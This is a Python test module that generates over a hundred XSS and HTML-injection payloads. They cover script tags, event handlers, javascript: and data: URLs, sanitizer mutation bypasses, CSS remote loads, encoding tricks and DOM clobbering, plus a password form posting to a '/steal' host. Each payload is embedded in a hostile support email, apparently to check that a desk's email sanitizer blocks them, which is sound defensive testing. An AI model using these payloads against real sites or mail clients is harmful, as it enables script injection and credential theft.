"""Letters whose HTML tries to run something, to load something, or to leave its frame.

Written from the known classes of such attacks. Each is to call `RUN`, or to fetch from `HOST`; none may.
"""

from __future__ import annotations

from collections.abc import Iterator
from email.message import EmailMessage

RUN = "top.hurt=1,self.hurt=1,alert(1)"


def payloads(host: str) -> list[str]:
    """More than a hundred of them; what they fetch stands on `host`."""
    return [
        *_scripts(host),
        *_handlers(),
        *_addresses(host),
        *_embedded(host),
        *_styles(host),
        *_fetched(host),
        *_parsed_twice(),
        *_forms(host),
        *_spelled(),
        *_clobbering(host),
    ]


def _scripts(host: str) -> Iterator[str]:
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT>{RUN}</SCRIPT>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script src='{host}/a.js'></script>"
    yield f"<script/src={host}/b.js></script>"
    yield f"<script\x00>{RUN}</script>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script type=module>{RUN}</script>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield f"<script>{RUN}"
    yield f"<script><!--\n{RUN}//--></script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}'/></svg>"
    yield f"<math><script>{RUN}</script></math>"
    yield f"<noscript><p title='</noscript><script>{RUN}</script>'>"


HANDLERS = (
    *("<img src=x onerror={}>", "<img src=x:x onerror='{}'>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>"),
    *("<body onload={}>", "<body onpageshow={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><g onload={}></g></svg>"),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}>"),
    *("<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>", "<video><source onerror={}></video>"),
    *("<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>", "<marquee loop=1 onfinish={}>x"),
    *("<div tabindex=1 autofocus onfocus={}>x</div>", "<p style='animation-name:x' onanimationstart={}>x</p>"),
    *("<a href=# onmouseover={}>x</a>", "<object data=x onerror={}></object>", "<embed src=x onerror={}>"),
    *("<iframe onload={}></iframe>", "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>"),
    *("<table background=x onload={}><tr><td>", "<img src='x' onerror = {}>", "<img src=x onerror\n=\n{}>"),
    *('<img src="x""onerror={}>', "<img src=`x`onerror={}>", "<image src=x onerror={}>"),
    "<b onclick={} autofocus>x",
    *(
        "<xss onfocus={} autofocus tabindex=1>x</xss>",
        "<keygen autofocus onfocus={}>",
        "<meter onmouseover={}>0</meter>",
    ),
    *("<p onpointerenter={}>x</p>", "<div onscrollend={} style='overflow:auto'>x</div>", "<bgsound src=x onerror={}>"),
)


def _handlers() -> Iterator[str]:
    for pattern in HANDLERS:
        yield pattern.format(RUN.replace(" ", ""))


def _addresses(host: str) -> Iterator[str]:
    for address in (
        *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}"),
        *(f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"javascript&colon;{RUN}", f"&#1;javascript:{RUN}"),
        *(f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        *(f"vbscript:{RUN}", f"jar:{host}/x!/", f"view-source:{host}", "file:///etc/passwd", f"blob:{host}/x"),
    ):
        yield f'<a href="{address}" id=press>press</a>'
        yield f'<img src="{address}">'
    yield f"<base href='{host}/'><a href=x>x</a><img src=y>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield f"<meta http-equiv=refresh content='0;url={host}/refresh'>"
    yield f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>{RUN}</script>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text x=1 y=9>x</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"
    yield f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>"
    yield f"<math href='javascript:{RUN}'>x</math>"


def _embedded(host: str) -> Iterator[str]:
    yield f"<iframe src='javascript:{RUN}'></iframe>"
    yield f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"
    yield f"<iframe src='{host}/frame'></iframe>"
    yield f"<object data='javascript:{RUN}'></object>"
    yield f"<object data='{host}/o.swf'></object>"
    yield f"<embed src='{host}/e.swf'>"
    yield f"<applet code='{host}/a.class'></applet>"
    yield f"<frameset><frame src='{host}/f'></frameset>"
    yield f"<portal src='{host}/p'></portal>"
    yield f"<svg><use href='{host}/u.svg#x'/></svg>"
    yield f"<svg><image href='{host}/i.svg'/></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<xml src='{host}/x.xml' id=x></xml>"


def _styles(host: str) -> Iterator[str]:
    yield f"<style>@import '{host}/s.css';</style>"
    yield f"<style>body{{background:url({host}/s1.png)}}</style>"
    yield f"<link rel=stylesheet href='{host}/l.css'>"
    yield f"<p style='background:url({host}/s2.png)'>x</p>"
    yield f"<p style='background-image:url({host}/s3.png)'>x</p>"
    yield f"<p style='width:expression({RUN})'>x</p>"
    yield f"<p style='-moz-binding:url({host}/b.xml#x)'>x</p>"
    yield f"<p style='behavior:url({host}/b.htc)'>x</p>"
    yield f"<p style='list-style-image:url({host}/s4.png);display:list-item'>x</p>"
    yield f"<p style='cursor:url({host}/s5.png),auto'>x</p>"
    yield f"<p style='border-image:url({host}/s6.png) 1'>x</p>"
    yield f"<p style='content:url({host}/s7.png)'>x</p>"
    yield f"<p style='font-family:x;src:url({host}/s8.woff)'>x</p>"
    yield f"<p style='color:red;b\\61 ckground:url({host}/s9.png)'>x</p>"
    yield "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in again</div>"
    yield f"<style>@font-face{{font-family:x;src:url({host}/f.woff)}}p{{font-family:x}}</style><p>x</p>"
    yield f"</style><style>*{{background:url({host}/s10.png)}}</style>"


def _fetched(host: str) -> Iterator[str]:
    yield f"<img src='{host}/1.png'>"
    yield f"<img src=' {host}/2.png'>"
    yield f"<img srcset='{host}/3.png 2x'>"
    yield f"<picture><source srcset='{host}/4.png'><img></picture>"
    yield f"<img src='//{host.removeprefix('http://')}/5.png'>"
    yield f"<img lowsrc='{host}/6.png' dynsrc='{host}/7.png'>"
    yield f"<table background='{host}/8.png'><tr><td background='{host}/9.png'>x</td></tr></table>"
    yield f"<body background='{host}/10.png'>"
    yield f"<video poster='{host}/11.png'></video>"
    yield f"<input type=image src='{host}/12.png'>"
    yield f"<link rel=icon href='{host}/13.png'><link rel=preload as=image href='{host}/14.png'>"
    yield f"<link rel=dns-prefetch href='{host}'><link rel=prefetch href='{host}/15'>"
    yield f"<a href='{host}/16' ping='{host}/ping'>x</a>"
    yield f"<audio src='{host}/17.mp3' autoplay></audio>"
    yield f"<track src='{host}/18.vtt'><bgsound src='{host}/19.mid'>"
    yield f"<svg><feImage href='{host}/20.png'/></svg>"
    yield f"<q cite='{host}/21'>x</q><blockquote cite='{host}/22'>x</blockquote>"


def _parsed_twice() -> Iterator[str]:
    """What means one thing to the cleaner and another to the browser that reads what it left."""
    bad = f"<img src=x onerror={RUN}>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{bad}'>"
    yield f"<svg></p><style><a id='</style>{bad}'>"
    yield f"<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea>{bad}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{bad}"
    yield f"<noembed><p title='</noembed>{bad}'>"
    yield f"<xmp><p title='</xmp>{bad}'>"
    yield f"<textarea><p title='</textarea>{bad}'>"
    yield f"<title><p title='</title>{bad}'>"
    yield f"<!--><p title='-->{bad}'>"
    yield f"<!-- --!>{bad}<!-- -->"
    yield f"<![CDATA[><p title=']]>{bad}'>"
    yield f"<?xml version='1.0'?><p title='?>{bad}'>"
    yield f"<plaintext>{bad}"
    yield f"<a title='&quot;>{bad}'>x</a>"
    yield f'<p title="&lt;img src=x onerror={RUN}&gt;">&lt;script&gt;{RUN}&lt;/script&gt;</p>'
    yield f"<svg><desc><noscript></desc></noscript>{bad}"
    yield f"<select><template><style></select><svg>{bad}"


def _forms(host: str) -> Iterator[str]:
    yield f"<form action='javascript:{RUN}'><input type=submit autofocus></form>"
    yield f"<form action='{host}/steal'><input name=password><button>Sign in</button></form>"
    yield f"<form id=f></form><button form=f formaction='javascript:{RUN}' autofocus>x</button>"
    yield f"<isindex type=image src=x onerror={RUN}>"
    yield f"<input type=hidden onfocus={RUN} autofocus><dialog open onclose={RUN}>Sign in</dialog>"


def _spelled() -> Iterator[str]:
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\ufeff<script>{RUN}</script>"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"%3Cscript%3E{RUN}%3C/script%3E"
    yield f"<img src=x one\u0000rror={RUN}>"
    yield f"<\u200bscript>{RUN}</\u200bscript>"
    yield f"<img src='x' \u00a0onerror={RUN}>"


def _clobbering(host: str) -> Iterator[str]:
    yield "<img name=cookie><form name=body id=documentElement></form><a id=defaultView></a>"
    yield f"<a id=config href='{host}/clobbered'></a><a id=config name=url href='{host}/x'></a>"
    yield f"<a href='{host}/t' target=_top id=press2>x</a><a href='{host}/o' target=opener rel=opener>x</a>"
    yield "<div id=main class='toast desk'>Sign in</div>"
    yield "<div data-dialog=keys data-key=d hx-get=/today hx-trigger=load>x</div>"


def letter(number: int, host: str, html: str) -> bytes:
    """One of them as a letter to the desk, about a bag of its own."""
    made = EmailMessage()
    made["From"] = f"Mallory {number} <mallory{number}@example.com>"
    made["To"] = "care@kite.example"
    made["Subject"] = f"My bag {number} <script>{RUN}</script>"
    made["Message-ID"] = f"<hostile-{number}@example.com>"
    made.set_content(f"My bag {number} is broken and I am unhappy.")
    made.add_alternative(
        f"<html><body><p>My bag {number} is broken.</p>{html}</body></html>", subtype="html", cte="base64"
    )
    made.add_attachment(f"<script>{RUN}</script>".encode(), "text", "html", filename=f"<img src=x onerror={RUN}>.html")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='{host}/svg.png'/></svg>"
    made.add_attachment(svg.encode(), "image", "svg+xml", filename="bag.svg")
    return made.as_bytes()
